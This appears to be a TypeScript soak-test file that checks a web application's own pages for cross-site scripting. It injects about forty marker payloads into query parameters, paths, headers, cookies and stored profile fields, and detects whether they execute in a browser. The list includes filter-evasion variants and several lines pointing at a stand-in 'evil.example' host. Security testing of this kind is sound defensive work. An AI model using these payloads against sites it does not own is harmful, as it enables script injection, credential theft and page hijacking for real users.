import { randomUUID } from "node:crypto";
import type { Browser } from "playwright-core";
import {
  type AttackedProgram,
  startAttackedProgram,
} from "#tests/soak/attacks/attacked-program.ts";
import { signInDemo } from "#tests/soak/attacks/demo-session.ts";
import {
  type AttackFamily,
  createTally,
  forEachAtOnce,
  type Tally,
} from "#tests/soak/attacks/family.ts";
import { nameless, openHtmlReader } from "#tests/soak/attacks/html-reader.ts";
import { openBrowser } from "#tests/support/open-browser.ts";

/** Scripts in addresses, headers, cookies and stored texts, parsed by a browser. */
export const xss: AttackFamily = {
  name: "xss",
  wanted: 870,
  run: async ({ runs }) => {
    await using attacked = await startAttackedProgram();
    const browser = await openBrowser();
    try {
      const tally = createTally();
      const attempts = payloads.flatMap((payload) => sinks.map((sink) => ({ sink, payload })));
      await readAll(attacked, browser, attempts.slice(0, runs ?? undefined), tally);
      await storeAndRead(attacked, browser, payloads.slice(0, runs ?? undefined), tally);
      await openAll(attacked, browser, attempts.slice(0, Math.min(runs ?? 60, 60)), tally);
      return { ...tally, note: `${payloads.length} scripts, ${sinks.length + 3} places` };
    } finally {
      await browser.close();
    }
  },
};

/** Every script calls `xssm`, so that it is found wherever it would run. */
const payloads = [
  "<script>xssm()</script>",
  "</script><script>xssm()</script>",
  "<img src=x onerror=xssm()>",
  '"><img src=x onerror=xssm()>',
  "'><svg onload=xssm()>",
  "<svg/onload=xssm()>",
  "<svg><script>xssm()</script></svg>",
  '" onmouseover="xssm()" x="',
  "' onfocus='xssm()' autofocus x='",
  "javascript:xssm()",
  "JaVaScRiPt:xssm()",
  "java\tscript:xssm()",
  "\u0001javascript:xssm()",
  "data:text/html,<script>xssm()</script>",
  "--><script>xssm()</script><!--",
  "<!--<script>xssm()",
  "]]><script>xssm()</script>",
  "</title><script>xssm()</script>",
  "</textarea><script>xssm()</script>",
  "</style><script>xssm()</script>",
  "<style>@import '//evil.example/xssm'</style>",
  "<base href=//evil.example/xssm>",
  '<meta http-equiv=refresh content="0;url=javascript:xssm()">',
  "<iframe srcdoc='<script>parent.xssm()</script>'>",
  "<object data=javascript:xssm()>",
  "<form action=//evil.example/xssm><button>Pay",
  '"-xssm()-"',
  "'-xssm()-'",
  '\\";xssm();//',
  "\u2028xssm()//",
  "$" + "{xssm()}",
  "{{constructor.constructor('xssm()')()}}",
  "<xssm-element xssm=1>",
  "%3Cscript%3Exssm()%3C/script%3E",
  "&lt;img src=x onerror=xssm()&gt;",
  "\uff1cscript\uff1exssm()\uff1c/script\uff1e",
  "<math><mtext><table><mglyph><style><img src onerror=xssm()>",
] as const;

interface Sink {
  path: string;
  headers?: Record<string, string>;
}

const encode = encodeURIComponent;
const query = (path: string, name: string) => (text: string) => ({
  path: `${path}?${name}=${encode(text)}`,
});

/** Every place where a page may repeat a text of the request. */
const sinks: readonly ((text: string) => Sink)[] = [
  query("/hs-code-search", "q"),
  query("/hs-code-search", "origin"),
  query("/regulation-search", "q"),
  query("/latest-notifications", "q"),
  query("/latest-notifications", "country"),
  query("/latest-notifications", "cursor"),
  query("/pages/search-results", "q"),
  query("/regulation-details", "id"),
  query("/hs-code-details", "code"),
  query("/pages/invoice", "id"),
  query("/pages/faq", "q"),
  query("/pricing", "plan"),
  query("/pricing", "returnTo"),
  query("/auth/login", "returnTo"),
  query("/auth/login", "outcome"),
  query("/auth/popup-done", "state"),
  query("/login", "email"),
  query("/maintenance", "lng"),
  (text) => ({ path: `/hs-code-details/${encode(text)}/${encode(text)}/GB/FR` }),
  (text) => ({ path: `/${encode(text)}` }),
  (text) => ({ path: `/checkout/${encode(text)}` }),
  (text) => ({ path: `/?${encode(text)}=${encode(text)}` }),
  (text) => ({ path: "/", headers: { "accept-language": encode(text) } }),
  (text) => ({
    path: "/auth/lock-screen",
    headers: { cookie: `clearlane_locked=${encode(JSON.stringify({ email: text, name: text }))}` },
  }),
];

type Attempt = { sink: (typeof sinks)[number]; payload: string };

async function readAll(
  attacked: AttackedProgram,
  browser: Browser,
  attempts: readonly Attempt[],
  tally: Tally,
): Promise<void> {
  const reader = await openHtmlReader(browser);
  if ((await reader.find(`<p>${payloads[2]}</p>`)) === null)
    throw new Error("the reader finds no script");
  await forEachAtOnce(attempts, 6, async ({ sink, payload }, index) => {
    const { path, headers = {} } = sink(payload);
    const answer = await attacked.send(path, {
      headers: { accept: "text/html", ...headers },
      from: index,
    });
    const type = String(answer.headers["content-type"] ?? "");
    const found = type.includes("html") ? await reader.find(answer.text) : null;
    const broken = answer.status === 500 ? `answered ${answer.status}` : null;
    tally.count((found ?? broken) ? `${path}: ${found ?? broken}` : null);
  });
  await reader.close();
}

/** Stored texts: profile names, and queries in history and ledger. */
async function storeAndRead(
  { origin }: AttackedProgram,
  browser: Browser,
  texts: readonly string[],
  tally: Tally,
): Promise<void> {
  const reader = await openHtmlReader(browser);
  const person = await signInDemo(origin, "premium");
  const headers = { "content-type": "application/json", "sec-fetch-site": "same-origin" };
  for (const text of texts) {
    await person.send(`${origin}/api/profile`, {
      method: "PUT",
      headers,
      body: JSON.stringify({ name: text, company: text }),
    });
    await person.send(`${origin}/api/searches`, {
      method: "POST",
      headers: { ...headers, "idempotency-key": randomUUID() },
      body: JSON.stringify({ kind: "hs-code", q: `cotton shirts ${text}` }),
    });
    for (const path of ["/profile", "/profile?tab=credits", "/dashboard-1"]) {
      const page = await person.open(origin + path);
      const found = page.status === 200 ? await reader.find(page.text) : `answered ${page.status}`;
      tally.count(found ? `stored ${JSON.stringify(text)}, ${path}: ${found}` : null);
    }
  }
  await reader.close();
}

/** A sample opened in a real browser: no script runs, and the policy blocks nothing. */
async function openAll(
  { origin }: AttackedProgram,
  browser: Browser,
  attempts: readonly Attempt[],
  tally: Tally,
): Promise<void> {
  const context = await browser.newContext();
  await context.addInitScript(nameless);
  const page = await context.newPage();
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const own = window as unknown as { ran: number; blocked: number; xssm(): void };
    Object.assign(own, { ran: 0, blocked: 0, xssm: () => (own.ran += 1) });
    document.addEventListener("securitypolicyviolation", () => (own.blocked += 1));
  });
  for (const { sink, payload } of attempts) {
    const { path, headers } = sink(payload);
    if (headers) continue;
    await page.goto(origin + path, { waitUntil: "load" });
    const { ran, blocked } = await page.evaluate(() => {
      const own = window as unknown as { ran: number; blocked: number };
      return { ran: own.ran, blocked: own.blocked };
    });
    const problem = `${path} in Chromium: ${ran} scripts ran, ${blocked} were blocked`;
    tally.count(ran + blocked + dialogs > 0 ? problem : null);
    dialogs = 0;
  }
  await context.close();
}
